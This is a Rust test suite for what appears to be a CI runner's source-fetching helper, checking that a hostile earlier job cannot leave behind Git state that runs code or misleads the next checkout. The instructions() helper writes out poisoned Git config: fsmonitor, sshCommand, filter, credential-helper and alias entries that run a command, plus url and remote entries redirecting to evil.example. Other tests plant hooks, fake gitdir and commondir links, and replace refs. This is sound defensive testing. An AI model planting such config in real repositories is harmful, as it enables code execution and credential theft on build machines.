//! What an earlier job leaves in a checkout does not reach the next one.

use std::fs;
use std::os::unix::fs::symlink;

use courser_helper::HelperRequest;
use courser_job::helper_request::{GetSources, GitStrategy, OldGitConfig};
use courser_testkit::programs::write_program;

use crate::site::Site;
use crate::world::{World, files_below};

/// A site whose `g/p` has an earlier job's checkout, with all submodules.
fn after_a_job() -> Site {
    let site = Site::start();
    site.add_lfs("one", "one.bin", "content of one");
    site.change(
        "p",
        &[("sub/file", "x")],
        &[("libs/one", "../one.git", "one")],
    );
    site.done(sources(&site));
    site
}

fn sources(site: &Site) -> GetSources {
    GetSources {
        old_config: OldGitConfig::DroppedBefore,
        ..site.with_submodules(GitStrategy::Fetch, true)
    }
}

/// What a hostile job writes to a repository so that Git runs `command`.
fn instructions(command: &str) -> String {
    format!(
        "[core]\n\tfsmonitor = {command}\n\thooksPath = /nonexistent\n\tsshCommand = {command}\n\
         \tattributesFile = /nonexistent\n\tgitProxy = {command}\n\
         [filter \"x\"]\n\tsmudge = {command}\n\tclean = {command}\n\trequired = true\n\
         [filter \"lfs\"]\n\tsmudge = {command}\n\tprocess = {command}\n\trequired = true\n\
         [credential]\n\thelper = \"!{command}\"\n\
         [url \"https://evil.example/\"]\n\tinsteadOf = https://\n\
         [include]\n\tpath = /nonexistent\n\
         [remote \"origin\"]\n\turl = https://evil.example/x.git\n\tuploadpack = {command}\n\
         [lfs]\n\turl = https://evil.example/lfs\n\
         [submodule \"libs/one\"]\n\tupdate = !{command}\n\turl = https://evil.example/y.git\n\
         [alias]\n\tclean = !{command}\n\tlfs = !{command}\n\
         [extensions]\n\tworktreeConfig = true\n"
    )
}

/// A program that leaves a file behind.
fn trap(site: &Site) -> String {
    let script = format!("#!/bin/sh\n: > '{}'\n", site.world.text("trapped"));
    write_program(site.world.path("trap"), script);
    site.world.text("trap")
}

fn plant(site: &Site, repository: &str, command: &str) {
    let at = |name: &str| format!("builds/project/{repository}/{name}");
    site.world.write(&at("config"), instructions(command));
    site.world
        .write(&at("config.worktree"), instructions(command));
    site.world.write(&at("info/attributes"), "* filter=x\n");
    for hook in [
        "post-checkout",
        "post-merge",
        "reference-transaction",
        "post-index-change",
        "pre-auto-gc",
        "update",
    ] {
        let hook = site.world.path(&at(&format!("hooks/{hook}")));
        write_program(hook, format!("#!/bin/sh\n{command}\n"));
    }
    for lock in ["index.lock", "HEAD.lock", "config.lock", "shallow.lock"] {
        site.world.write(&at(lock), "");
    }
}

fn assert_clean(site: &Site) {
    assert!(!site.world.path("trapped").exists(), "a trap was sprung");
    for file in files_below(&site.world.path("builds/project/.git")) {
        let name = file.file_name().unwrap_or_default().to_string_lossy();
        if ["config", "config.worktree", "attributes", "commondir"].contains(&name.as_ref()) {
            let text = fs::read_to_string(&file).expect("text");
            assert!(!text.contains("trap") && !text.contains("evil"), "{text}");
        }
    }
    assert_eq!(
        site.read("libs/one/one.bin").as_deref(),
        Some("content of one")
    );
    assert_eq!(site.read("libs/one/two/two.txt").as_deref(), Some("two"));
}

#[test]
fn configuration_hooks_attributes_and_locks_are_gone_everywhere() {
    let site = after_a_job();
    let trap = trap(&site);
    for repository in [
        ".git",
        ".git/modules/libs/one",
        ".git/modules/libs/one/modules/two",
    ] {
        plant(&site, repository, &trap);
    }
    site.change("two", &[("more.txt", "more")], &[]);
    site.change("one", &[], &[("two", "../two.git", "two")]);
    site.change("p", &[], &[("libs/one", "../one.git", "one")]);
    site.done(sources(&site));
    assert_clean(&site);
    assert_eq!(site.read("libs/one/two/more.txt").as_deref(), Some("more"));
}

#[test]
fn a_repository_in_place_of_a_submodules_link_is_removed() {
    for (submodule, as_directory) in [("libs/one", true), ("libs/one/two", false)] {
        let site = after_a_job();
        let trap = trap(&site);
        let link = format!("builds/project/{submodule}/.git");
        fs::remove_file(site.world.path(&link)).expect("a file");
        let planted = if as_directory { &link } else { "elsewhere" };
        fs::create_dir_all(site.world.path(planted)).expect("directory");
        site.world.git(planted, &["init", "-q", "."]);
        site.world
            .git(planted, &["config", "core.fsmonitor", &trap]);
        if !as_directory {
            let target = format!("gitdir: {}/.git\n", site.world.text("elsewhere"));
            site.world.write(&link, target);
        }
        site.done(sources(&site));
        assert_clean(&site);
    }
}

#[test]
fn a_repository_in_a_directory_of_a_submodules_repository_is_not_used() {
    let site = after_a_job();
    let trap = trap(&site);
    for place in [
        "objects/evil",
        "refs/heads/evil",
        "refs/remotes/origin",
        "logs",
        "lfs/evil",
    ] {
        let module = "builds/project/.git/modules/libs/one";
        let planted = format!("{module}/{place}");
        let copy = site.world.path(&planted);
        copy_repository(&site.world.path(module), &copy);
        let config = format!("[core]\n\tfsmonitor = {trap}\n\thooksPath = {trap}\n");
        fs::write(copy.join("config"), config).expect("file");
        let link = "builds/project/libs/one/.git";
        let honest = site.read("libs/one/.git").expect("a file");
        site.world.write(
            link,
            format!("gitdir: ../../.git/modules/libs/one/{place}\n"),
        );
        site.done(sources(&site));
        assert_clean(&site);
        assert_eq!(
            site.read("libs/one/.git").as_deref(),
            Some(honest.as_str()),
            "{place}"
        );
        assert!(!copy.join("config").exists(), "{place}");
    }
}

/// Git takes up a repository in `.git/modules` again by the name of its submodule alone.
#[test]
fn a_submodule_whose_name_is_a_directory_of_repositories_is_tidied_below_a_planted_head() {
    let site = after_a_job();
    site.change(
        "p",
        &[],
        &[
            ("libs/one", "../one.git", "one"),
            ("libs/objects/one", "../one.git", "one"),
        ],
    );
    site.done(sources(&site));
    let trap = trap(&site);
    plant(&site, ".git/modules/libs/objects/one", &trap);
    site.world
        .write("builds/project/.git/modules/libs/HEAD", "ref: no ref\n");
    fs::remove_dir_all(site.world.path("builds/project/libs/objects/one")).expect("goes");
    site.done(sources(&site));
    assert_clean(&site);
    assert!(site.read("libs/objects/one/one.txt").is_some());
}

/// What makes a directory a repository, and its index.
fn copy_repository(from: &std::path::Path, to: &std::path::Path) {
    for name in ["HEAD", "index", "packed-refs", "objects", "refs"] {
        let (from, to) = (from.join(name), to.join(name));
        if from.is_dir() {
            for file in files_below(&from) {
                let copy = to.join(file.strip_prefix(&from).expect("below"));
                fs::create_dir_all(copy.parent().expect("has one")).expect("directories");
                fs::copy(&file, copy).expect("copies");
            }
            fs::create_dir_all(&to).expect("directory");
        } else if from.exists() {
            fs::create_dir_all(to.parent().expect("has one")).expect("directories");
            fs::copy(&from, &to).expect("copies");
        }
    }
}

#[test]
fn links_lead_git_nowhere() {
    for link in ["libs", ".git/modules/libs/one"] {
        let site = after_a_job();
        let path = site.world.path(&format!("builds/project/{link}"));
        let away = site.world.path("away");
        fs::rename(&path, &away).expect("moves");
        symlink(&away, &path).expect("link");
        let before = files_below(&away);
        site.done(sources(&site));
        assert_clean(&site);
        assert_eq!(files_below(&away), before, "{link}");
    }
}

#[test]
fn another_repository_behind_commondir_does_not_count() {
    let site = after_a_job();
    let trap = trap(&site);
    fs::create_dir_all(site.world.path("elsewhere")).expect("directory");
    site.world.git("elsewhere", &["init", "-q", "."]);
    site.world
        .git("elsewhere", &["config", "core.fsmonitor", &trap]);
    let other = site.world.text("elsewhere/.git");
    for repository in [".git", ".git/modules/libs/one"] {
        let file = format!("builds/project/{repository}/commondir");
        site.world.write(&file, format!("{other}\n"));
    }
    site.done(sources(&site));
    assert_clean(&site);
}

#[test]
fn a_repository_in_a_directory_of_the_project_is_removed() {
    let site = after_a_job();
    let trap = trap(&site);
    let directory = "builds/project/sub";
    site.world.git(directory, &["init", "-q", "."]);
    site.world
        .git(directory, &["config", "core.fsmonitor", &trap]);
    site.done(sources(&site));
    assert_clean(&site);
    assert_eq!(site.read("sub/file").as_deref(), Some("x"));
    assert!(!site.world.path(directory).join(".git").exists());
}

#[test]
fn a_file_that_git_was_told_not_to_look_at_is_the_commits_again() {
    for flag in ["--assume-unchanged", "--skip-worktree"] {
        let site = after_a_job();
        let project = "builds/project";
        site.world.git(project, &["update-index", flag, "sub/file"]);
        site.world
            .write("builds/project/sub/file", "changed by a job");
        site.done(sources(&site));
        assert_eq!(site.read("sub/file").as_deref(), Some("x"), "{flag}");
    }
}

#[test]
fn a_replaced_commit_is_not_checked_out() {
    let site = after_a_job();
    let project = "builds/project";
    site.world.write("builds/project/p.txt", "replaced");
    site.world
        .git(project, &["commit", "-q", "-a", "-m", "evil"]);
    let head = site.head("p");
    site.world.git(project, &["replace", &head, "HEAD"]);
    fs::remove_file(site.world.path("builds/project/p.txt")).expect("a file");
    site.done(sources(&site));
    assert_eq!(site.read("p.txt").as_deref(), Some("p"));
}

#[test]
fn a_strategy_without_a_repository_leaves_no_credentials_of_an_earlier_job() {
    let site = after_a_job();
    let external = site
        .world
        .path("builds/project.tmp/.gitlab-runner.ext.conf");
    assert!(external.exists());
    let mut sources = site.sources(GitStrategy::None);
    site.done(sources.clone());
    assert!(!external.exists());
    sources.credential_helper_for = Some("https://gitlab.example".to_owned());
    site.done(sources);
    let text = fs::read_to_string(&external).expect("a file");
    assert!(
        text.contains("CI_JOB_TOKEN") && !text.contains("s3cr3t"),
        "{text}"
    );
}

#[test]
fn strategies_may_change_from_job_to_job() {
    let site = Site::start();
    for strategy in [
        GitStrategy::Fetch,
        GitStrategy::None,
        GitStrategy::Fetch,
        GitStrategy::Empty,
        GitStrategy::Clone,
    ] {
        let mut sources = sources(&site);
        sources.strategy = strategy;
        if !strategy.uses_git() {
            sources.submodules = None;
        }
        site.world.write("builds/project/left", "");
        site.done(sources);
        let expected = (strategy != GitStrategy::Empty).then_some("p");
        assert_eq!(site.read("p.txt").as_deref(), expected, "{strategy:?}");
        let stays = strategy == GitStrategy::None;
        assert_eq!(site.read("left").is_some(), stays, "{strategy:?}");
        if strategy.uses_git() {
            assert!(site.read("libs/one/two/two.txt").is_some(), "{strategy:?}");
        }
    }
}

#[test]
fn a_reused_repository_keeps_the_format_of_its_objects() {
    let world = World::new();
    fs::create_dir(world.path("sha256")).expect("directory");
    world.git(
        "sha256",
        &["init", "-q", "-b", "main", "--object-format=sha256"],
    );
    for content in ["one", "two"] {
        world.write("sha256/file", content);
        world.git("sha256", &["add", "-A"]);
        world.git("sha256", &["commit", "-q", "-m", content]);
        let sources = GetSources {
            remote_url: format!("file://{}", world.text("sha256")),
            sha: world.git("sha256", &["rev-parse", "HEAD"]),
            object_format: "sha256".to_owned(),
            old_config: OldGitConfig::DroppedBefore,
            ..world.sources(GitStrategy::Fetch)
        };
        assert_eq!(sources.sha.len(), 64);
        world.done(&HelperRequest::GetSources(Box::new(sources)));
        let file = fs::read_to_string(world.path("builds/project/file"));
        assert_eq!(file.expect("a file"), content);
    }
}

#[test]
fn objects_that_were_left_out_can_be_fetched_by_the_next_job() {
    let world = World::new();
    for name in ["uploadpack.allowFilter", "uploadpack.allowAnySHA1InWant"] {
        world.git("origin", &["config", name, "true"]);
    }
    let sources = || GetSources {
        old_config: OldGitConfig::DroppedBefore,
        ..world.sources(GitStrategy::Fetch)
    };
    let mut partial = sources();
    partial.fetch_flags.push("--filter=blob:none".to_owned());
    world.done(&HelperRequest::GetSources(Box::new(partial)));
    world.commit("third");
    world.done(&HelperRequest::GetSources(Box::new(sources())));
    assert!(world.path("builds/project/third").exists());
    // An old version of a file was never there.
    let old = world.git("builds/project", &["log", "--oneline", "-p"]);
    assert!(old.contains("+first"), "{old}");
}
